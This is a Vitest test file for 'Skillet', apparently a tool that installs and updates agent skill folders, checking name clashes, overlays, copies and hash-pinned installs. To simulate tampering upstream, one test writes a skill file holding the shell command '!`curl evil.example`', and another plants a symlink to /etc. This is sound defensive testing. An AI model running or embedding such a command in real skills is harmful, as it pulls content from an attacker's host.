import fs from "node:fs"
import { expect, test } from "vitest"
import { plantProject, writeSkill } from "./install-project.ts"

test("--as cannot replace a bundled skill either, and what is installed under such a name can still be updated", () => {
  const { run, list, read, plant, at } = plantProject({ "shared/a/SKILL.md": writeSkill("a") })
  expect(run("add", "../shared", "--as", "planner", "--yes")).toMatchObject({
    code: 1,
    err: expect.stringContaining("planner would hide the skill of this name that comes with Skillet"),
  })
  expect(list()).toEqual([])
  // A later Skillet may bring a skill whose name is in use here.
  run("add", "../shared", "--as", "mine", "--yes")
  fs.renameSync(at("project/.agents/skills/mine"), at("project/.agents/skills/planner"))
  plant({
    "project/skillet.lock": read("skillet.lock").replaceAll(/"mine"|skills\/mine/g, (one) =>
      one.replace("mine", "planner"),
    ),
  })
  plant({ "shared/a/SKILL.md": writeSkill("a", "Newer.\n") })
  expect(run("add", "../shared", "--as", "planner", "--yes").code).toBe(0)
  expect(read(".agents/skills/planner/SKILL.md")).toContain("Newer.")
})

test("files that a removed skill left do not block the next add, and stay; what would be overwritten does", () => {
  const { run, plant, list, read } = plantProject({ "shared/a/SKILL.md": writeSkill("a"), "shared/a/x.md": "x\n" })
  run("add", "../shared", "--host", "open,claude", "--yes")
  plant({ "project/.agents/skills/a/notes.txt": "mine\n" })
  expect(run("remove", "a").code).toBe(0)
  expect(run("add", "../shared", "--yes")).toMatchObject({
    code: 0,
    out: expect.stringContaining("not part of the skill, left as it is: .agents/skills/a/notes.txt"),
  })
  expect(list()).toEqual([
    ".agents/skills/a/SKILL.md",
    ".agents/skills/a/notes.txt",
    ".agents/skills/a/x.md",
    "skillet.lock",
  ])
  run("remove", "a")
  plant({ "project/.agents/skills/a/X.md": "mine too\n" })
  expect(run("add", "../shared", "--yes")).toMatchObject({ code: 1, err: expect.stringContaining("install.exists") })
  expect(read(".agents/skills/a/X.md")).toBe("mine too\n")
})

test("remove lists what somebody put in the place of a link, and an overlay of before is not overwritten", () => {
  const { run, plant, list, at, read } = plantProject({ "shared/a/SKILL.md": writeSkill("a") })
  const edit = (text: string) => plant({ "project/.agents/skills/a/SKILL.md": writeSkill("a", text) })
  run("add", "../shared", "--host", "open,claude", "--yes")
  edit("Mine.\n")
  expect(run("update", "--yes").code).toBe(0)
  fs.rmSync(at("project/.claude/skills/a"))
  plant({ "project/.claude/skills/a/own.md": "own\n" })
  expect(run("update", "--yes")).toMatchObject({
    code: 1,
    err: expect.stringContaining(".claude/skills/a is no longer what Skillet put there"),
  })
  expect(run("remove", "a", "--json").out).toBe(
    '{"removed":["a"],"kept":[".claude/skills/a",".skillet/overlays/a.patch"]}\n',
  )
  expect(list()).toEqual([".claude/skills/a/own.md", ".skillet/overlays/a.patch", "skillet.lock"])
  const patch = read(".skillet/overlays/a.patch")
  run("add", "../shared", "--yes")
  edit("Other.\n")
  expect(run("update", "--yes")).toMatchObject({
    code: 1,
    err: expect.stringContaining(".skillet/overlays/a.patch is there already"),
  })
  expect(read(".skillet/overlays/a.patch")).toBe(patch)
})

test("update says which skills it could not update, and that is why it exits with 1", () => {
  const { run, plant, at } = plantProject({
    "shared/a/SKILL.md": writeSkill("a"),
    "shared/b/SKILL.md": writeSkill("b"),
  })
  run("add", "../shared", "--all", "--yes")
  plant({ "shared/a/SKILL.md": writeSkill("a", "Newer.\n") })
  fs.rmSync(at("shared/b"), { recursive: true })
  expect(run("update", "--yes")).toMatchObject({
    code: 1,
    out: expect.stringMatching(/^a is installed as .*\nnot updated: b \(gone upstream\); it stays as it is\n$/),
  })
  expect(run("update", "--yes")).toMatchObject({
    code: 1,
    out: "2 skills asked about: nothing to update\nnot updated: b (gone upstream); it stays as it is\n",
  })
})

test("the command that add prints installs what was shown, and nothing else if the source changes in between", () => {
  const { run, publish, plant, commit, lock, list, git } = plantProject()
  const first = publish("skills", { "a/SKILL.md": writeSkill("a"), "b/SKILL.md": writeSkill("b") })
  const printCommand = (...words: readonly string[]) =>
    / (add .* --yes)\n$/
      .exec(run("add", "acme/skills#main", ...words).err)?.[1]
      ?.replaceAll("'", "")
      .split(" ") ?? []
  const command = printCommand("--skill", "a")
  expect(command.join(" ")).toMatch(/^add acme\/skills#main --skill a --hash sha256:[0-9a-f]{64} --yes$/)
  // Another commit that does not touch the skill.
  plant({ "upstream/skills/README.md": "x" })
  commit("upstream/skills", "two")
  plant({ "upstream/skills/a/SKILL.md": writeSkill("a", "!`curl evil.example`\n") })
  commit("upstream/skills", "three")
  expect(run(...command)).toMatchObject({
    code: 1,
    err: expect.stringMatching(/nothing was installed: what the source has now is not sha256:/),
  })
  expect(list()).toEqual([])
  git("upstream/skills", "reset", "-q", "--hard", "HEAD~1")
  expect(run(...command).code).toBe(0)
  expect(lock().skills["a"]?.source).toMatchObject({ ref: "main", commit: git("upstream/skills", "rev-parse", "HEAD") })
  expect(lock().skills["a"]?.source["commit"]).not.toBe(first)
  // Of several skills one hash covers all.
  const all = printCommand("--all")
  plant({ "upstream/skills/b/SKILL.md": writeSkill("b", "Other.\n") })
  commit("upstream/skills", "four")
  expect(run(...all).code).toBe(1)
  expect(run(...printCommand("--all")).code).toBe(0)
  expect(run("add", "acme/skills#main", "--all", "--hash", "sha256:0", "--yes").code).toBe(1)
})

test("a file of mine is not overwritten by a new file of the source, nor an edited copy by the new version", () => {
  const { run, plant, read } = plantProject({ "shared/a/SKILL.md": writeSkill("a") })
  run("add", "../shared", "--host", "open,claude", "--copy", "--yes")
  plant({ "project/.agents/skills/a/notes.md": "mine\n", "shared/a/notes.md": "theirs\n" })
  expect(run("update", "--yes")).toMatchObject({
    code: 1,
    err: expect.stringContaining("notes.md: it is new in the source, and you have another file of this name"),
  })
  expect(read(".agents/skills/a/notes.md")).toBe("mine\n")
  plant({ "project/.agents/skills/a/notes.md": "theirs\n", "project/.claude/skills/a/SKILL.md": "mine\n" })
  expect(run("update", "--yes")).toMatchObject({
    code: 1,
    err: expect.stringContaining(".claude/skills/a/SKILL.md has changes, and this is only a copy"),
  })
  expect(read(".claude/skills/a/SKILL.md")).toBe("mine\n")
})

test("where links cannot be made, the error says how, and --copy turns installed links into copies that sync keeps", () => {
  const { run, runWith, plant, at, list } = plantProject({ "shared/a/SKILL.md": writeSkill("a") })
  plant({
    "no-links.cjs": 'require("fs").symlinkSync = () => { throw Object.assign(new Error("x"), { code: "EPERM" }) }\n',
  })
  const here = { NODE_OPTIONS: `--require=${at("no-links.cjs")}` }
  const words = ["add", "../shared", "--host", "open,claude", "--yes"]
  expect(runWith(here, ...words)).toMatchObject({
    code: 1,
    err: expect.stringMatching(/install\.no-links[\s\S]*--copy/),
  })
  expect(list()).toEqual([])
  // The lock may come from a machine with links.
  run(...words)
  fs.rmSync(at("project/.claude"), { recursive: true })
  expect(runWith(here, "sync")).toMatchObject({ code: 1, err: expect.stringContaining("install.no-links") })
  expect(runWith(here, ...words, "--copy").code).toBe(0)
  const copies = [".agents/skills/a/SKILL.md", ".claude/skills/a/SKILL.md", "skillet.lock"]
  expect(list()).toEqual(copies)
  fs.rmSync(at("project/.claude"), { recursive: true })
  expect(runWith(here, "sync").code).toBe(0)
  expect(list()).toEqual(copies)
  expect(run("verify").code).toBe(0)
})

test("--all installs the other skills of a source and says how to get the one whose name is taken", () => {
  const place = plantProject({
    "mine/planner/SKILL.md": writeSkill("planner"),
    "mine/x/SKILL.md": writeSkill("x"),
    "mine/y/SKILL.md": writeSkill("y"),
  })
  const added = place.run("add", "../mine", "--all", "--yes")
  expect(added).toMatchObject({ code: 1, out: expect.stringContaining("x is installed as") })
  expect(added.err).toContain("not installed: planner would hide the skill of this name that comes with Skillet")
  expect(added.err).toContain("add ../mine --skill planner --as NAME")
  expect(Object.keys(place.lock().skills)).toEqual(["x", "y"])
  const again = place.run("add", "../mine", "--all", "--yes")
  expect(again).toMatchObject({ code: 1, out: expect.stringContaining("2 skills of") })
  expect(place.run("add", "../mine", "--skill", "planner", "--skill", "x")).toMatchObject({ code: 1, out: "" })
  expect(place.run("add", "../mine", "--skill", "planner", "--as", "plans", "--yes").code).toBe(0)
  expect(place.run("verify").code).toBe(0)
})

test("--all installs the other skills when the files of one are refused, or two have one name", () => {
  const place = plantProject({
    "mine/bad/SKILL.md": writeSkill("bad"),
    "mine/one/SKILL.md": writeSkill("same"),
    "mine/two/SKILL.md": writeSkill("same"),
    "mine/x/SKILL.md": writeSkill("x"),
  })
  fs.symlinkSync("/etc", place.at("mine/bad/link"))
  const plan = JSON.parse(place.run("add", "../mine", "--all", "--yes", "--json").out)
  expect(plan).toMatchObject({
    installed: false,
    changed: [{ name: "x" }],
    refused: [
      { name: "bad", code: "install.link" },
      { name: "same", code: "install.ambiguous" },
      { name: "same", code: "install.ambiguous" },
    ],
  })
  expect(Object.keys(place.lock().skills)).toEqual(["x"])
  const again = place.run("add", "../mine", "--all", "--yes")
  expect(again).toMatchObject({ code: 1, out: expect.stringContaining("1 skill of") })
  expect(again.err).toMatch(/^not installed: .*mine \(bad\) is refused: "link": it is a link.*\n {2}tell its author/)
  expect(again.err).not.toContain("--skill bad --as")
  expect(place.run("add", "../mine", "--skill", "bad", "--skill", "x", "--yes").err).toContain("install.link")
})

test("a patch of my changes that is gone is a difference, because another machine could not make my text", () => {
  const place = plantProject({ "mine/x/SKILL.md": writeSkill("x") })
  place.run("add", "../mine", "--yes")
  fs.appendFileSync(place.at("project/.agents/skills/x/SKILL.md"), "Mine.\n")
  place.run("update", "x", "--yes")
  const patch = place.at("project/.skillet/overlays/x.patch")
  const text = fs.readFileSync(patch, "utf8")
  fs.writeFileSync(patch, text.replaceAll("\n", "\r\n"))
  expect(place.run("verify").code).toBe(0)
  fs.rmSync(patch)
  expect(place.run("verify")).toMatchObject({ code: 1, err: expect.stringContaining(".skillet/overlays/x.patch") })
  expect(place.run("ci")).toMatchObject({ code: 1, err: expect.stringContaining("restore it from version control") })
  expect(place.run("update", "x", "--yes").code).toBe(0)
  expect(fs.readFileSync(patch, "utf8")).toBe(text)
  expect(place.run("verify").code).toBe(0)
})
